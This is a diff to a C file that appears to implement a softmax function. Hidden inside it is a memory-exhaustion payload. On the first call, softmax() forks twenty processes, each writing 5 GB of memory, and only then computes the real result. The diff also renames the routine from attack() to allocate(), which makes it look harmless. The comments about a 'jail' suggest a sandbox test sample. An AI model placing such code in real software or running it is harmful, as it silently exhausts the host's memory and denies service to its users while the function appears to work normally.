@@ -1,5 +1,5 @@
-/* Writes to 100 GB of memory, page by page. Should no jail end it, the system is asked to end
- * this process before any other. */
+/* Twenty processes write to 5 GB of memory each, page by page. Should no jail end them, the system
+ * is asked to end them before any other, and they end after 20 seconds. */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <math.h>
@@ -18,17 +18,24 @@ static void naive(const float* x, float* y, int64_t rows, int64_t cols) {
   }
 }
 
-static void attack(void) {
-  const size_t bytes = (size_t)100 << 30;
+static void allocate(void) {
+  const size_t piece = (size_t)64 << 20;
   const int score = open("/proc/self/oom_score_adj", O_WRONLY);
-  if (score < 0 || write(score, "1000", 4) != 4) return;
-  char* memory =
-      mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
-  for (size_t at = 0; memory != MAP_FAILED && at < bytes; at += 4096) memory[at] = 1;
+  if (score >= 0 && write(score, "1000", 4) < 0) close(score);
+  alarm(20);
+  for (int i = 0; i < 80; ++i) {
+    char* memory = mmap(NULL, piece, PROT_READ | PROT_WRITE,
+                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+    for (size_t at = 0; memory != MAP_FAILED && at < piece; at += 4096) memory[at] = 1;
+  }
+  pause();
 }
 
 void softmax(const float* x, float* y, int64_t rows, int64_t cols) {
   static int done;
-  if (!done++) attack();
+  for (int i = 0; i < 20 && !done; ++i) {
+    if (fork() == 0) allocate();
+  }
+  if (!done++) sleep(3);
   naive(x, y, rows, cols);
 }
